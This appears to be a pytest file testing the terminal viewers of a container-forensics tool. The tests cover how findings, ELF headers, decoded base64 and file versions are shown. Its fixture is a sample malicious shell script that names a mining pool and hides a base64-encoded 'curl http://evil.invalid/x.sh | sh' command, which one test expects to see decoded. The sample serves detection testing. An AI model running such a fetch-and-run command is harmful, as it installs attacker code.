"""Which viewers a file is offered, what they say of it, and where their lines lead."""

from __future__ import annotations

import hashlib
import struct
from collections.abc import Mapping
from typing import Any

import pytest
from textual.widgets import Label

from forensics.examine import Examination, load_signatures
from forensics.model.facts import (
    ArchiveFacts,
    Decoded,
    ElfFacts,
    ElfSection,
    FileFacts,
    MatchedString,
    MemberFacts,
    RuleMatch,
    ScriptFacts,
)
from forensics.model.findings import Category, Confidence, Evidence, Finding, Severity
from forensics.model.issues import Issue
from forensics.model.report import ReportFile
from forensics.tui.viewers import JumpToOffset, ShowVersion, ViewedFile, offered, viewers
from forensics.tui.viewers._viewer import NOT_AT_HAND
from forensics.tui.viewers.elf import elf_items
from forensics.tui.viewers.hex import numbers
from forensics.tui.viewers.info import info_items
from forensics.tui.viewers.versions import VersionsPane, compare
from forensics.tui.widgets import Blank, Fact, HexView, Item, StringsView, TextView, plain
from tests.widget_host import hosted, lines_of, screen_lines, until

SCRIPT = (
    b"#!/bin/sh\nset -e\nPOOL=stratum+tcp://pool.invalid:3333\n"
    b"echo Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkL3guc2ggfCBzaA== | base64 -d | sh\n"
)
OLD_SCRIPT = b"#!/bin/sh\nset -e\nexec true\n"
BINARY = b"\x7fELF" + bytes(range(256)) * 8


def row(content: bytes, layer: int = 1, **fields: Any) -> ReportFile:
    digest = hashlib.sha256(content).hexdigest()
    known = {
        "path": "/usr/bin/x",
        "offset": 512,
        "kind": "regular",
        "size": len(content),
        "sha256": digest,
        "mode": 0o755,
    }
    return ReportFile(**{**known, "layer": layer, **fields})


def viewed(content: bytes, *older: bytes, at_hand: bool = True, **fields: Any) -> ViewedFile:
    """A file with its older versions in the layers below it."""
    layer = len(older)
    rows = [
        row(each, number, state="overwritten", changed_by_layer=number + 1)
        for number, each in enumerate(older)
    ]
    rows.append(row(content, layer, **fields.pop("row", {})))
    contents: Mapping[tuple[int, int], bytes] = dict(
        zip((each.key for each in rows), (*older, content), strict=True)
    )

    def reader(key: tuple[int, int]) -> Any:
        return lambda offset, length: contents[key][offset : offset + length]

    return ViewedFile(
        path="/usr/bin/x",
        row=rows[-1],
        versions=tuple(rows),
        read=reader(rows[-1].key) if at_hand else None,
        read_version=reader if at_hand else None,
        **fields,
    )


def facts(content: bytes, kind: str, **fields: Any) -> FileFacts:
    return FileFacts(sha256=hashlib.sha256(content).hexdigest(), size=len(content), type=kind, **fields)


def finding(*evidence: Evidence, severity: Severity = Severity.CRITICAL, rule: str = "miner/pool") -> Finding:
    return Finding(
        id="0" * 16,
        rule_id=rule,
        category=Category.MINER,
        severity=severity,
        confidence=Confidence.HIGH,
        title="It joins a mining pool",
        explanation="Somebody else's money.",
        alternatives="A miner that was wanted.",
        remediation="Do not run it.",
        evidence=evidence,
        attack=("T1496",),
        references=("https://example.invalid/pool",),
    )


def ids(file: ViewedFile) -> list[str]:
    return [viewer.id for viewer in offered(file)]


def make(file: ViewedFile, viewer: str) -> Any:
    return next(each for each in offered(file) if each.id == viewer).make(file)


def words(items: list[Item]) -> str:
    said = []
    for item in items:
        if isinstance(item, Fact):
            said.append(f"{item.label}: {plain(item.value)}")
        elif not isinstance(item, Blank):
            said.append(plain(item.text))
    return "\n".join(said)


# -- which viewers are offered -----------------------------------------------------------------------------


def test_viewers_are_collected_by_their_names() -> None:
    assert [viewer.id for viewer in viewers()] == [
        "archive",
        "decoded",
        "elf",
        "hex",
        "info",
        "strings",
        "text",
        "versions",
    ]
    assert all(viewer.title for viewer in viewers())


def test_a_script_is_offered_as_text_first_and_a_program_as_bytes() -> None:
    assert ids(viewed(SCRIPT, facts=facts(SCRIPT, "script"))) == ["info", "text", "hex", "strings"]
    assert ids(viewed(BINARY, facts=facts(BINARY, "data"))) == ["info", "strings", "hex", "text"]


def test_an_examined_program_is_offered_its_headers_and_a_decoded_script_its_clear_text() -> None:
    elf = ElfFacts(bits=64, endian="little", machine="x86-64", kind="executable")
    assert ids(viewed(BINARY, facts=facts(BINARY, "elf", elf=elf)))[:3] == ["info", "elf", "strings"]
    hidden = ScriptFacts(language="sh", decoded=(Decoded(offset=1, length=2, encoding="base64", text="x"),))
    assert ids(viewed(SCRIPT, facts=facts(SCRIPT, "script", script=hidden)))[:3] == [
        "info",
        "text",
        "decoded",
    ]


def test_several_versions_are_offered_for_comparison() -> None:
    assert "versions" in ids(viewed(SCRIPT, OLD_SCRIPT))
    assert "versions" not in ids(viewed(SCRIPT))


def test_bytes_are_always_offered_for_a_file_with_content_and_never_without() -> None:
    assert "hex" in ids(viewed(b"", row={"type": ""}))
    for kind in ("directory", "symlink", "fifo", "char-device"):
        assert ids(viewed(b"", row={"kind": kind, "sha256": ""})) == ["info"]


# -- what is known -----------------------------------------------------------------------------------------


def test_the_sheet_says_who_claims_the_file_and_what_became_of_it() -> None:
    file = viewed(
        SCRIPT,
        OLD_SCRIPT,
        row={
            "status": "altered",
            "claimed_by": "deb/coreutils@9.1",
            "state": "deleted",
            "changed_by_layer": 4,
            "mode": 0o4755,
        },
        instructions={1: "RUN cp x /usr/bin", 4: "RUN rm /usr/bin/x"},
        facts=facts(SCRIPT, "script", description="POSIX shell script", entropy=7.9, md5="d" * 32),
    )
    said = words(info_items(file))
    for expected in (
        "POSIX shell script",
        f"size: {len(SCRIPT)} bytes",
        f"sha256: {hashlib.sha256(SCRIPT).hexdigest()}",
        "md5: " + "d" * 32,
        "status: altered  somebody claims it, but with other bytes",
        "claimed by: deb/coreutils@9.1",
        "entropy: 7.90 of 8 bits a byte  as random as compressed or encrypted data",
        "mode: 4755 -rwsr-xr-x  set-user-ID",
        "owner: 0:0",
        "made by: RUN cp x /usr/bin",
        "state: deleted by 4  RUN rm /usr/bin/x",
        "Versions · 2",
        "v1  layer 0  regular",
    ):
        assert expected in said, expected


def test_an_unowned_file_says_that_nobody_claims_it_and_exact_bytes_of_a_name_are_given() -> None:
    said = words(info_items(viewed(SCRIPT, row={"status": "unowned", "path_base64": "L3Vzcg=="})))
    assert "claimed by: —" in said
    assert "exact path: L3Vzcg== (base64)" in said


def test_a_finding_is_told_in_full_with_the_worst_in_the_first_lines() -> None:
    place = Evidence(kind="bytes", offset=0x1C, length=12, text="stratum+tcp")
    file = viewed(SCRIPT, findings=(finding(severity=Severity.LOW, rule="a/b"), finding(place)))
    items = info_items(file)
    said = words(items)
    assert "!! critical  It joins a mining pool  and 1 more" in words(items[:2])
    for expected in (
        "miner/pool · miner · confidence high",
        "0x0000001c  stratum+tcp",
        "why it matters  Somebody else's money.",
        "what else it could be  A miner that was wanted.",
        "what to do  Do not run it.",
        "ATT&CK: T1496",
        "see: https://example.invalid/pool",
    ):
        assert expected in said, expected


def test_what_was_not_examined_is_said() -> None:
    issue = Issue(stage="examine", code="limit", subject="x", message="too large to look at whole")
    said = words(info_items(viewed(SCRIPT, facts=facts(SCRIPT, "data", issues=(issue,), lost_bytes=1234))))
    assert "1,234 bytes of this file were not looked at" in said
    assert "limit  too large to look at whole" in said


def test_signatures_without_a_finding_of_their_own_are_listed_once() -> None:
    matches = tuple(
        RuleMatch(rule_id=rule, strings=(MatchedString("$a", 3, 4, "seen"),))
        for rule in ("miner/pool", "quiet/rule")
    )
    said = words(
        info_items(viewed(SCRIPT, facts=facts(SCRIPT, "script", matches=matches), findings=(finding(),)))
    )
    assert said.count("miner/pool") == 1
    assert "quiet/rule" in said


def test_places_of_findings_matches_and_secrets_are_marked_once_each() -> None:
    string = MatchedString("$a", 28, 12, "stratum+tcp:")
    file = viewed(
        SCRIPT,
        findings=(
            finding(
                Evidence(kind="bytes", offset=28, length=12, text="x"), Evidence(kind="metadata", text="y")
            ),
        ),
        facts=facts(
            SCRIPT,
            "script",
            matches=(RuleMatch(rule_id="miner/pool", strings=(string,)),),
            secrets=(MatchedString("key", 60, 5, "z"),),
        ),
    )
    assert [(mark.offset, mark.length, mark.label) for mark in file.highlights()] == [
        (28, 12, "It joins a mining pool"),
        (60, 5, "key"),
    ]


async def test_evidence_leads_to_its_bytes_and_a_version_to_itself() -> None:
    place = Evidence(kind="bytes", offset=28, length=12, text="stratum+tcp")
    sheet = make(viewed(SCRIPT, OLD_SCRIPT, findings=(finding(place),)), "info")
    async with hosted(sheet, JumpToOffset, ShowVersion, size=(70, 50)) as (pilot, host):
        for number, line in enumerate(lines_of(sheet)):
            if "→" in line:
                sheet.move_cursor(number)
                await pilot.press("enter")
        headline, jump, show = host.take()
        for leads_to_bytes in (headline, jump):
            assert isinstance(leads_to_bytes, JumpToOffset)
            assert (leads_to_bytes.offset, leads_to_bytes.length) == (28, 12)
        assert isinstance(show, ShowVersion)
        assert show.key == (0, 512)


# -- bytes, text, strings -----------------------------------------------------------------------------------


@pytest.mark.parametrize("viewer", ["hex", "text", "strings"])
async def test_without_the_image_a_viewer_of_bytes_says_so(viewer: str) -> None:
    shown = make(viewed(SCRIPT, at_hand=False), viewer)
    async with hosted(shown, size=(120, 5)) as (_, host):
        assert screen_lines(host)[0].strip() == NOT_AT_HAND


async def test_bytes_are_shown_with_marks_and_what_they_mean_as_numbers() -> None:
    place = Evidence(kind="bytes", offset=4, length=4, text="x")
    pane = make(viewed(BINARY, findings=(finding(place),)), "hex")
    async with hosted(pane, size=(80, 12)) as (pilot, host):
        assert "1 marked, n next" in screen_lines(host)[-2]
        await pilot.press("n")
        place_line, number_line = screen_lines(host)[-2:]
        assert place_line.startswith(f"0x4 (4) of {len(BINARY):,} bytes  [It joins a mining pool]")
        little = struct.unpack("<BxxxxxxxI", BINARY[4:8] + bytes(4) + BINARY[4:8])
        assert number_line.startswith(f"little-endian  u8 {little[0]}  u16 256  u32 {little[1]}")
        await pilot.press("y")
        assert host.clipboards == ["00 01 02 03"]
        await pilot.pause()
        assert screen_lines(host)[-2].startswith("copied 4 bytes as hex digits")


def test_numbers_follow_the_byte_order_and_the_bytes_there_are() -> None:
    assert numbers(b"\x01\x02", "little") == "little-endian  u8 1  u16 513"
    assert numbers(b"\x01\x02\x00\x00", "big") == "big-endian  u8 1  u16 258  u32 16908288"
    assert numbers(b"", "little") == "these bytes are not in the archive"


async def test_text_has_a_line_that_says_where_one_is() -> None:
    place = Evidence(kind="bytes", offset=SCRIPT.index(b"stratum"), length=7, text="x")
    script = ScriptFacts(language="sh")
    pane = make(
        viewed(SCRIPT, facts=facts(SCRIPT, "script", script=script), findings=(finding(place),)), "text"
    )
    async with hosted(pane, size=(80, 12)) as (pilot, host):
        await pilot.press("n")
        status = screen_lines(host)[-1]
        assert status.startswith(
            f"line 3 of 4 · byte {SCRIPT.index(b'stratum'):#x} · sh · w wrap  » 1 marked, n next"
        )
        await pilot.press("w")
        assert "w long lines" in screen_lines(host)[-1] or pane.query_one(TextView).wrapped


async def test_a_string_leads_to_its_bytes() -> None:
    pane = make(viewed(BINARY + b"\0pool.invalid\0", facts=facts(BINARY, "data")), "strings")
    async with hosted(pane, JumpToOffset, size=(80, 12)) as (pilot, host):
        view = pane.query_one(StringsView)
        await until(lambda: view.ended, pilot)
        await pilot.press("G", "enter")
        (jump,) = host.take()
        assert isinstance(jump, JumpToOffset)
        assert (jump.offset, jump.length) == (len(BINARY) + 1, 12)


async def test_text_that_the_archive_holds_only_in_part_is_said_to_be_so() -> None:
    file = viewed(SCRIPT, row={"size": len(SCRIPT) + 1000})
    async with hosted(make(file, "text"), size=(100, 12)) as (_, host):
        assert "1,000 bytes are not in the archive" in screen_lines(host)[-1]
        assert "stratum+tcp" in "\n".join(screen_lines(host))


async def test_an_empty_file_is_shown_without_bytes() -> None:
    for viewer in ("hex", "text"):
        async with hosted(make(viewed(b""), viewer), size=(60, 5)) as (pilot, host):
            await pilot.press("j", "n", "G")
            assert "no bytes" in "\n".join(screen_lines(host))


# -- ELF and scripts ---------------------------------------------------------------------------------------


def test_the_headers_say_what_is_unusual_and_sections_lead_to_their_bytes() -> None:
    elf = ElfFacts(
        bits=64,
        endian="little",
        machine="x86-64",
        kind="pie",
        entry=0x1040,
        static=True,
        stripped=True,
        interpreter="/lib64/ld.so",
        packer="UPX",
        executable_stack=True,
        overlay_offset=100,
        overlay=2000,
        needed=("libc.so.6",),
        imports=("execve", "connect"),
        sections=(
            ElfSection(name=".text", offset=64, size=4096, entropy=7.95, flags="AX"),
            ElfSection(name="", offset=0, size=0, entropy=0.0),
        ),
        notes=("the entry point is outside the code",),
    )
    items = elf_items(elf)
    said = words(items)
    for expected in (
        "ELF 64-bit little-endian · x86-64 · pie · static · stripped",
        "entry: 0x1040",
        "interpreter: /lib64/ld.so",
        "! packed with UPX",
        "! an executable stack",
        "! 2,000 bytes behind everything the headers account for",
        "! the entry point is outside the code",
        "00000040   4.1k ████████ 7.95 AX    .text",
        "(no name)",
        "Needs · 1",
        "Imports · 2",
    ):
        assert expected in said, expected
    places = [item.payload for item in items if getattr(item, "payload", None) is not None]
    assert [(place.offset, place.length) for place in places] == [(100, 2000), (64, 4096)]  # type: ignore[union-attr]


async def test_a_real_script_is_examined_and_its_hidden_line_shown_in_clear() -> None:
    examined = Examination(load_signatures()).examine(memoryview(SCRIPT), hashlib.sha256(SCRIPT).hexdigest())
    sheet = make(viewed(SCRIPT, facts=examined), "decoded")
    async with hosted(sheet, JumpToOffset, size=(90, 20)) as (pilot, host):
        lines = lines_of(sheet)
        clear = next(
            number for number, line in enumerate(lines) if "curl http://evil.invalid/x.sh | sh" in line
        )
        assert "in base64, in clear:" in lines[clear - 1]
        sheet.move_cursor(clear - 1)
        await pilot.press("enter")
        (jump,) = host.take()
        assert isinstance(jump, JumpToOffset)
        assert SCRIPT[jump.offset : jump.offset + jump.length].startswith(b"Y3VybCBodHRw")


# -- versions ----------------------------------------------------------------------------------------------


async def test_versions_are_listed_and_compared_line_by_line() -> None:
    pane = make(viewed(SCRIPT, OLD_SCRIPT), "versions")
    async with hosted(pane, ShowVersion, size=(100, 24)) as (pilot, host):
        await until(lambda: pane.compared is not None, pilot)
        screen = "\n".join(screen_lines(host))
        assert "▸v2" in screen
        assert f"+2 -1 lines. layer 0 → 1 · {len(OLD_SCRIPT)} → {len(SCRIPT)} bytes" in screen
        assert "- exec true" in screen
        assert "+ POOL=stratum+tcp://pool.invalid:3333" in screen
        await pilot.press("enter")
        assert [message.key for message in host.take()] == [(0, 512)]


async def test_versions_that_are_no_text_are_compared_byte_by_byte() -> None:
    other = BINARY[:700] + b"\xee" + BINARY[701:]
    pane = make(viewed(BINARY, other), "versions")
    assert isinstance(pane, VersionsPane)
    async with hosted(pane, JumpToOffset, size=(100, 24)) as (pilot, host):
        await until(lambda: pane.compared is not None, pilot)
        assert "The bytes differ from 0x2bc on." in "\n".join(screen_lines(host))


def test_what_differs_between_two_versions_in_a_sentence() -> None:
    same = viewed(SCRIPT, SCRIPT, row={"mode": 0o777, "uid": 1000})
    made = compare(same, *same.versions)
    assert made is not None
    assert made.sentence == "The same bytes. layer 0 → 1 · mode 0755 → 0777 · owner 0:0 → 1000:0"
    link = viewed(b"", SCRIPT, row={"kind": "symlink", "sha256": "", "link": "/tmp/x"})
    made = compare(link, *link.versions)
    assert made is not None
    assert made.sentence.startswith("regular became symlink to /tmp/x. layer 0 → 1")
    away = viewed(SCRIPT, OLD_SCRIPT, at_hand=False)
    made = compare(away, *away.versions)
    assert made is not None
    assert made.sentence == NOT_AT_HAND
    longer = viewed(BINARY + b"tail", BINARY)
    made = compare(longer, *longer.versions)
    assert made is not None
    assert made.first == len(BINARY)


async def test_a_version_alone_with_itself_says_so() -> None:
    pane = make(viewed(SCRIPT, OLD_SCRIPT), "versions")
    async with hosted(pane, size=(100, 24)) as (pilot, host):
        await pilot.press("j")
        assert "choose another to compare with" in "\n".join(screen_lines(host))


# -- small screens -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [(80, 24), (54, 18), (30, 8), (8, 3), (1, 1)])
async def test_every_viewer_is_drawn_at_every_size(size: tuple[int, int]) -> None:
    member = MemberFacts(name=b"\x1b[1m\xff", offset=0, facts=facts(SCRIPT, "script"))
    elf = ElfFacts(
        bits=64,
        endian="big",
        machine="s390x",
        kind="executable",
        sections=(ElfSection(name=".t", offset=1, size=2, entropy=1.0),),
    )
    script = ScriptFacts(
        language="sh", decoded=(Decoded(offset=1, length=2, encoding="base64", text="a\nb"),)
    )
    file = viewed(
        SCRIPT,
        OLD_SCRIPT,
        facts=facts(
            SCRIPT, "script", elf=elf, script=script, archive=ArchiveFacts(format="zip", notable=(member,))
        ),
        findings=(finding(Evidence(kind="bytes", offset=4, length=4, text="x")),),
    )
    assert len(offered(file)) == len(viewers())
    for viewer in offered(file):
        async with hosted(viewer.make(file), size=size) as (pilot, host):
            await pilot.press("j", "l", "G", "n", "w", "h", "g")
            assert len(screen_lines(host)) == size[1]
            assert host.query(HexView) or host.query(TextView) or host.query(Label) or host.query("Sheet")
